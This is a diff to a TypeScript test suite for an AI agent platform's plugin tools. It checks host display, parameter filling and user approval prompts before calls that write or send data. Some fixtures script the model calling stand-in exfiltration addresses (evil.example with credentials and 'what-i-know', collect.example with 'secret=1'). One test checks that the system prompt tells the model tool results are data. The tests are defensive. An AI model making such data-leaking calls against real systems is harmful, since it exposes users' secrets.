@@ -10,6 +10,7 @@ import {
   GetQueriedOAuthPluginList,
   ImportBot,
   LeaveSpace,
+  ParameterLocation,
   ParameterSource,
   ParameterType,
   ResumeChat,
@@ -60,6 +61,8 @@ async function openWith(
   await chat.change({ plugin_list: pluginList(made) });
   return { chat, made };
 }
+
+const FIXED = { source: ParameterSource.fixed, default_value: 'drop' };
 
 const call = (name: string, args: Record<string, unknown> = {}, id = 'call-1') => ({
   toolCalls: [{ id, name, arguments: args }],
@@ -211,12 +214,13 @@ describe('studio §3 plugin skill: an agent with a plugin', () => {
   });
 
   it('names the host of an address that a call sends, and the model is told that results are data', async () => {
-    const { chat } = await openWith([tool('fetch', { request_params: [parameter('url'), parameter('also')] })]);
-    const args = { url: 'https://user:pw@evil.example/?q=what-i-know', also: 'no address' };
+    const also = parameter('also', { type: ParameterType.object });
+    const { chat } = await openWith([tool('fetch', { request_params: [parameter('url'), also] })]);
+    const args = { url: 'https://user:pw@evil.example/?q=what-i-know', also: { to: [{ at: 'https://b.example/x' }] } };
     world.model.script(call('fetch', args), { text: ['Done.'] });
     const [called] = messagesOf(await chat.say('Fetch'), 'function_call');
     expect(JSON.parse(called?.extra_info.execute_display_name ?? '{}')).toMatchObject({
-      name_executing: 'Calling Pets · fetch (evil.example)',
+      name_executing: 'Calling Pets · fetch (evil.example, b.example)',
     });
     expect(world.model.requests.at(-1)?.body.messages[0]).toMatchObject({
       role: 'system',
@@ -225,10 +229,14 @@ describe('studio §3 plugin skill: an agent with a plugin', () => {
   });
 
   it('fills parameters from variables of the user', async () => {
-    const request_params = [
-      parameter('city', { source: ParameterSource.variable, variable_key: 'city', default_value: 'Rome' }),
-    ];
-    const { chat } = await openWith([tool('weather', { request_params })]);
+    const ofUser = { source: ParameterSource.variable, variable_key: 'city', default_value: 'Rome' };
+    const ofParts = { type: ParameterType.object, style: 'deepObject' } as const;
+    const { chat } = await openWith([
+      tool('weather', { request_params: [parameter('city', ofUser)] }),
+      tool('forecast', {
+        request_params: [parameter('place', { ...ofParts, sub_parameters: [parameter('city', ofUser)] })],
+      }),
+    ]);
     const city = {
       key: 'city',
       description: '',
@@ -241,6 +249,9 @@ describe('studio §3 plugin skill: an agent with a plugin', () => {
     world.model.script(call('weather'), { text: ['Cold.'] });
     await chat.say('Weather?');
     expect(api.requests.at(-1)?.url.search).toBe('?city=Oslo');
+    world.model.script(call('forecast'), { text: ['Colder.'] });
+    await chat.say('And tomorrow?');
+    expect(api.requests.at(-1)?.url.searchParams.get('place[city]')).toBe('Oslo');
   });
 
   it('asks before a call that writes: once, for the conversation or for good; the user can take it back', async () => {
@@ -293,6 +304,8 @@ describe('studio §3 plugin skill: an agent with a plugin', () => {
     const changes: Partial<ToolDefinition>[] = [
       { method: 'DELETE', risk: 'destroys' },
       { method: 'POST', path: '/other', risk: 'writes' },
+      // The same address, which another fixed value makes do something else.
+      { method: 'POST', risk: 'writes', request_params: [parameter('action', FIXED)] },
     ];
     for (const [index, change] of changes.entries()) {
       await chat.browser.call(UpdateAPI, { api_id, tool: tool('note', change) });
@@ -306,11 +319,30 @@ describe('studio §3 plugin skill: an agent with a plugin', () => {
       api_id,
       tool: tool('note', { method: 'POST', risk: 'writes', desc: 'Notes' }),
     });
-    await publish(chat.browser, made, {}, 4);
-    await chat.change({ plugin_list: pluginList(made, 4) });
+    await publish(chat.browser, made, {}, 5);
+    await chat.change({ plugin_list: pluginList(made, 5) });
     expect(answerTextOf(await say())).toBe('Done.');
     const { approvals } = await chat.browser.call(GetQueriedOAuthPluginList, {});
     expect(approvals.map((one) => one.api_id)).toEqual([api_id]);
+  });
+
+  it('asks again before an allowed call gets a file from another host', async () => {
+    const photo = parameter('photo', { location: ParameterLocation.body, file_type: 'image' });
+    const { chat } = await openWith([
+      tool('upload', { method: 'POST', body_kind: 'multipart', risk: 'writes', request_params: [photo] }),
+    ]);
+    const say = (address: string) => {
+      world.model.script(call('upload', { photo: address }), { text: ['Done.'] });
+      return chat.say('Upload it');
+    };
+    const own = `${api.url}/photo.png`;
+    await answer(chat, await say(own), 'Always allow');
+    expect(answerTextOf(await say(own))).toBe('Done.');
+    const paused = await say('https://collect.example/photo.png?secret=1');
+    const { details } = JSON.parse(actionOf(paused)?.function.arguments ?? '{}');
+    expect(details).toContainEqual({ label: 'Gets files from', value: 'collect.example' });
+    expect(resultsOf(await answer(chat, paused, 'Do not allow'))[0]).toContain('does not allow');
+    expect(answerTextOf(await say(own))).toBe('Done.');
   });
 
   it('never offers to allow for good what destroys', async () => {
@@ -398,6 +430,58 @@ describe('studio §3 plugin skill: an agent with a plugin', () => {
     await chats[0].say('And now?');
     expect(offered().map((one) => one.function.name)).not.toContain('mine');
     expect(api.requests).toHaveLength(before);
+  });
+
+  it('asks to allow a call that has waited for a key, and makes the call that is allowed', async () => {
+    const auth = { type: 'key', owner: 'user', location: 'header', name: 'X-Key', prefix: '' } as const;
+    const chat = await world.chat(`replies-${++users}@example.com`);
+    const write = tool('enter', { method: 'POST', risk: 'writes' });
+    const made = await createPlugin(chat.browser, chat.spaceId, api.url, [write], { auth });
+    const { pluginId: plugin_id } = made;
+    const connect = () => chat.browser.call(SetUserPluginKey, { plugin_id, secret: 'users-own-key' });
+    await connect();
+    await publish(chat.browser, made);
+    await chat.change({ plugin_list: pluginList(made) });
+    const sayUnconnected = async () => {
+      await chat.browser.call(RevokeAuthToken, { plugin_id });
+      world.model.script(call('enter'), { text: ['Entered.'] });
+      const paused = await chat.say('Enter it');
+      expect(actionOf(paused)).toMatchObject({ connect: { plugin_id } });
+      await connect();
+      return answer(chat, paused, 'connected');
+    };
+    const count = () => api.requests.filter(({ url }) => url.pathname === '/enter').length;
+    const before = count();
+    const asked = await sayUnconnected();
+    expect(JSON.parse(actionOf(asked)?.function.arguments ?? '{}').options).toContain('Always allow');
+    expect(count()).toBe(before);
+    expect(answerTextOf(await answer(chat, asked, 'Always allow'))).toBe('Entered.');
+    expect(answerTextOf(await sayUnconnected())).toBe('Entered.');
+    expect(count()).toBe(before + 2);
+  });
+
+  it('goes on with the tool that has asked, also where another one has got its name by then', async () => {
+    const auth = { type: 'key', owner: 'user', location: 'header', name: 'X-Key', prefix: '' } as const;
+    const chat = await world.chat(`replies-${++users}@example.com`);
+    const make = async (path: string, keyed: boolean) => {
+      const send = tool('send', { method: 'POST', path, risk: 'writes' });
+      const made = await createPlugin(chat.browser, chat.spaceId, api.url, [send], keyed ? { auth } : undefined);
+      if (keyed) await chat.browser.call(SetUserPluginKey, { plugin_id: made.pluginId, secret: 'own-key' });
+      await publish(chat.browser, made);
+      return made;
+    };
+    const [first, second, third] = [await make('/a', false), await make('/b', true), await make('/c', false)];
+    await chat.change({ plugin_list: [first, second, third].flatMap((made) => pluginList(made)) });
+    await chat.browser.call(RevokeAuthToken, { plugin_id: second.pluginId });
+    world.model.script(call('send_2'), { text: ['Sent.'] });
+    const paused = await chat.say('Send it');
+    // The second tool is `send` now, and the third one `send_2`.
+    await chat.browser.call(DelPlugin, { plugin_id: first.pluginId });
+    await chat.browser.call(SetUserPluginKey, { plugin_id: second.pluginId, secret: 'own-key' });
+    const asked = await answer(chat, paused, 'connected');
+    const before = api.requests.length;
+    await answer(chat, asked, 'Allow once');
+    expect(api.requests.slice(before).map(({ url }) => url.pathname)).toEqual(['/b']);
   });
 
   it('takes the key and the status for the version that the agent uses, not for the plugin as it is edited', async () => {
